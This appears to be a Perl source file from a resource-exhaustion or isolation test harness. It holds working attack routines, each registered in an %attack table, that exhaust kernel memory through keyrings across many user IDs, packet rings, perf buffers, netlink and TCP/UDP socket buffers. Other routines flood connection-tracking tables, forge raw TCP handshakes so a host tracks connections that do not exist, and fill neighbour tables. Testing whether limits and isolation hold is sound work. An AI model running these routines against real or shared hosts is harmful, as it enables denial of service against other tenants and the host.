# The second part of the attacks: memory of the network and of the kernel that is counted
# differently or not at all.

$attack{"keys"} = sub {
    # The limits are counted by user, and a node has as many users as its range.
    my ($bytes, $keys) = (0, 0);
    my $user = 10000;
    while (left() && $bytes < $bound) {
        pipe(my $in, my $out);
        my $pid = fork;
        last unless defined $pid;
        if (!$pid) {
            POSIX::setgid($user);
            POSIX::setuid($user);
            my $n = 0;
            $n++ while $n < 16 && call("add_key", my $t = "user", my $d = "noise-$n", my $text = "x" x 30000, 30000, -4) >= 0;
            syswrite($out, $n);
            POSIX::_exit(0);
        }
        close $out;
        sysread($in, my $n, 10);
        waitpid($pid, 0);
        last unless $n;
        $keys += $n;
        $bytes += $n * 30000;
        $user++;
    }
    hold($keys, "keys,", $bytes >> 20, "MiB");
};

$attack{"packet-rings"} = sub {
    my $bytes = 0;
    while (left() && $bytes < $bound) {
        socket(my $s, 17, SOCK_RAW, 0) or last;
        # PACKET_RX_RING with 64 blocks of 1 MiB.
        setsockopt($s, 263, 5, pack("I4", 1 << 20, 64, 2048, 64 * 512)) or last;
        push @kept, $s;
        $bytes += 64 << 20;
    }
    hold($bytes >> 20, "MiB of rings", $bytes ? "" : "$!");
};

$attack{"perf"} = sub {
    my $bytes = 0;
    while (left() && $bytes < $bound) {
        my $user = 20000 + @kept;
        pipe(my $in, my $out);
        my $pid = fork;
        last unless defined $pid;
        if (!$pid) {
            POSIX::setuid($user);
            my $n = 0;
            # Type software, size 112, event of the task clock, only in user space.
            my $attributes = pack("L L Q Q Q Q Q x64", 1, 112, 1, 1000000, 0, 0, 0x60 | 1);
            for my $cpu (0, 1) {
                my $fd = call("perf_event_open", $attributes, 0, $cpu, -1, 0);
                last if $fd < 0;
                $n++ if call("mmap", 0, 129 << 12, 3, 1, $fd, 0) > 0;
            }
            syswrite($out, "$n");
            sleep 0.1 while left();
            POSIX::_exit(0);
        }
        close $out;
        sysread($in, my $n, 10);
        push @kept, $pid;
        last unless $n;
        $bytes += $n << 19;
    }
    hold($bytes >> 20, "MiB of buffers");
    kill "KILL", @kept;
};

$attack{"netlink"} = sub {
    workers(2, sub {
        my $bytes = 0;
        my @all;
        socket(my $from, 16, SOCK_RAW, 2) or return;
        my $text = pack("L S S L L", 60000, 16, 0, 0, 0) . "x" x 59984;
        my $port = $$ << 12;
        while (left() && $bytes < $bound / 2) {
            socket(my $s, 16, SOCK_RAW, 2) or last;
            bind($s, pack("S S L L", 16, 0, ++$port, 0)) or last;
            push @all, $s;
            for (1 .. 10) { send($from, $text, 64, pack("S S L L", 16, 0, $port, 0)) or last; $bytes += 60000 }
        }
        hold($bytes >> 20, "MiB in", scalar @all, "sockets");
    });
};

$attack{"tcp"} = sub {
    call("unshare", $NEWNET);
    loopback_up();
    workers(4, sub {
        my ($bytes, @all) = (0);
        socket(my $listener, PF_INET, SOCK_STREAM, 0);
        bind($listener, sockaddr_in(0, INADDR_LOOPBACK));
        listen($listener, 4096);
        my $address = getsockname($listener);
        while (left()) {
            socket(my $client, PF_INET, SOCK_STREAM, 0) or last;
            setsockopt($client, SOL_SOCKET, SO_SNDBUF, 4 << 20);
            connect($client, $address) or last;
            accept(my $server, $listener) or last;
            fcntl($client, POSIX::F_SETFL(), POSIX::O_NONBLOCK());
            while (my $n = syswrite($client, "x" x 262144)) { $bytes += $n }
            push @all, $client, $server;
        }
        hold($bytes >> 20, "MiB in", scalar @all / 2, "connections");
    });
};

$attack{"udp"} = sub {
    call("unshare", $NEWNET);
    loopback_up();
    workers(4, sub {
        my ($sent, @all) = (0);
        socket(my $from, PF_INET, SOCK_DGRAM, 0);
        while (left() && @all < 5000) {
            socket(my $s, PF_INET, SOCK_DGRAM, 0) or last;
            bind($s, sockaddr_in(0, INADDR_LOOPBACK)) or last;
            my $to = getsockname($s);
            for (1 .. 8) { $sent++ if send($from, "x" x 32768, 64, $to) }
            push @all, $s;
        }
        hold($sent >> 5, "MiB sent to", scalar @all, "sockets");
    });
};

# Sends packets with as many pairs of ports as possible.
sub flows {
    my ($address) = @_;
    workers(2, sub {
        my $sent = 0;
        while (left()) {
            socket(my $s, PF_INET, SOCK_DGRAM, 0) or last;
            my $first = 1024 + int rand 60000;
            for my $port ($first .. $first + 2000) {
                $sent++ if send($s, "x", 64, pack_sockaddr_in($port % 65535 + 1, inet_aton($address)));
            }
        }
    });
}

$attack{"flows-to-node"} = sub { flows($ENV{PEER}) };
$attack{"flows-to-host"} = sub { flows($ENV{GATEWAY}) };
$attack{"flows-to-outside"} = sub { flows("198.51.100.7") };

sub checksum {
    my ($text) = @_;
    my $sum = 0;
    $sum += $_ for unpack("n*", $text . (length($text) % 2 ? "\0" : ""));
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    return ~$sum & 0xffff;
}

# Connections without sockets: both nodes send the packets of handshakes, and the host
# takes each for an established connection. The answers are sent by another node.
sub segment {
    my ($own, $peer, $from, $to, $sequence, $acknowledged, $flags) = @_;
    my $segment = pack("n n N N C C n n n", $from, $to, $sequence, $acknowledged, 5 << 4, $flags, 65535, 0, 0);
    my $sum = checksum($own . $peer . pack("n n", 6, length $segment) . $segment);
    substr($segment, 16, 2) = pack("n", $sum);
    return pack("C C n n n C C n a4 a4", 0x45, 0, 40, 0, 0, 64, 6, 0, $own, $peer) . $segment;
}

# Answers every packet with the flags `seen` by one with the flags `flags`.
sub answer_handshakes {
    my ($seen, $flags) = @_;
    socket(my $in, PF_INET, SOCK_RAW, 6) or die "raw socket: $!";
    setsockopt($in, SOL_SOCKET, SO_RCVBUF, 1 << 20);
    socket(my $out, PF_INET, SOCK_RAW, 255) or die "raw socket: $!";
    my $count = 0;
    while (left()) {
        my $ready = "";
        vec($ready, fileno($in), 1) = 1;
        next unless select($ready, undef, undef, 0.2);
        defined recv($in, my $packet, 100, 0) or next;
        my ($peer, $own) = unpack("x12 a4 a4", $packet);
        my ($to, $from, $sequence, $acknowledged, $got) = unpack("x20 n n N N x C", $packet);
        next unless $got == $seen && $from >= 5000 && $from < 9000 || $got == $seen && $to >= 5000 && $to < 9000;
        send($out, segment($own, $peer, $from, $to, $flags == 0x12 ? 1000 : $acknowledged, $sequence + 1, $flags), 64,
             pack_sockaddr_in(0, $peer)) and $count++;
    }
    say("$count answers");
}

$attack{"connections"} = sub {
    my ($own, $peer) = map { inet_aton($_) } @ENV{"OWN", "PEER"};
    my $pid = fork // die "fork: $!";
    if (!$pid) { answer_handshakes(0x12, 0x10); POSIX::_exit(0) }
    socket(my $out, PF_INET, SOCK_RAW, 255) or die "raw socket: $!";
    my $sent = 0;
    PORTS: for my $port (5000 .. 5999) {
        for my $source (10000 .. 60000) {
            last PORTS unless left();
            $sent++ if send($out, segment($own, $peer, $source, $port, 1, 0, 0x02), 64, pack_sockaddr_in(0, $peer));
            sleep 0.001 unless $sent % 40;
        }
    }
    waitpid($pid, 0);
    say("$sent requests");
};
$attack{"answers"} = sub { answer_handshakes(0x02, 0x12) };

$attack{"neighbours"} = sub {
    call("unshare", $NEWNET);
    system("ip link add noise0 type veth peer name noise1 && ip link set noise0 up && ip link set noise1 up && ip addr add 10.99.0.1/16 dev noise0");
    workers(2, sub {
        my $n = 0;
        socket(my $s, PF_INET, SOCK_DGRAM, 0);
        while (left()) {
            my $address = sprintf("10.99.%d.%d", $n / 250 % 250, $n % 250 + 2);
            send($s, "x", 64, pack_sockaddr_in(9, inet_aton($address)));
            $n++;
        }
    });
};
